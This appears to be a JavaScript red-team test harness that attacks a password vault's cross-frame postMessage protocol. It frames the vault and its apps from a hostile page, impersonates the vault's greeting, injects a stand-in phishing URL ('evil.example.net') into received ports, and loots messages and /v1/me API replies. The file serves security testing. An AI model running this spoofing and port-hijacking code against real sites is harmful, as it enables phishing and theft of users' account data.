// An attacker's own frames and windows of the vault.
{
  const { redteam } = globalThis;

  redteam.frame = (set, parent = document.body ?? document.documentElement) => {
    const frame = document.createElement("iframe");
    if (set.sandbox !== undefined) frame.sandbox = set.sandbox;
    for (const name of ["src", "srcdoc", "name"]) if (set[name] !== undefined) frame[name] = set[name];
    parent.append(frame);
    return frame;
  };

  /** In a frame: greets the page above as the vault does, and answers whoever gives it a port. */
  redteam.greetAsVault = () => {
    setInterval(() => {
      for (const word of ["strongroom:hello", ["strongroom:broken", "x"]]) parent.postMessage(word, "*");
    }, 10);
    addEventListener("message", ({ ports: [port] }) => {
      parent.postMessage(`got a port ${port !== undefined}`, "*");
      port?.postMessage([0, "https://evil.example.net/login"]);
    });
  };

  /** Frames `src` and hands it a port when it greets, if it does; then asks for `urls`. Gives what it says. */
  redteam.offer = (set, urls, target = "*") => {
    const { far, heard, ask } = redteam.channel();
    const ports = [far];
    addEventListener("message", ({ source }) => {
      if (source === frame.contentWindow) source.postMessage("strongroom:port", target, ports.splice(0));
    });
    const frame = redteam.frame(set);
    urls.forEach(ask);
    return heard;
  };

  /** From a page that is not listed: frames the vault and the applications, and takes part in every hand-over. */
  redteam.takePart = async () => {
    const { vault, app, inpage, api } = redteam;
    const said = [];
    const answered = [];
    const handTo = (window) => {
      const { far, heard, ask } = redteam.channel();
      window?.postMessage("strongroom:port", "*", [far]);
      ask(`${api}/v1/me`);
      answered.push(heard);
    };
    addEventListener("message", ({ data, origin, source }) => {
      said.push(String(data));
      redteam.loot([origin, data]);
      handTo(source);
    });
    const frames = [vault, app, inpage].map((origin) => redteam.frame({ src: `${origin}/` }));
    let loaded = 0;
    for (const frame of frames) {
      frame.onload = () => {
        loaded += 1;
        handTo(frame.contentWindow);
      };
    }
    await redteam.wait(2500);
    return { won: answered.flat().length > 0, said, loaded, offered: answered.length };
  };
}
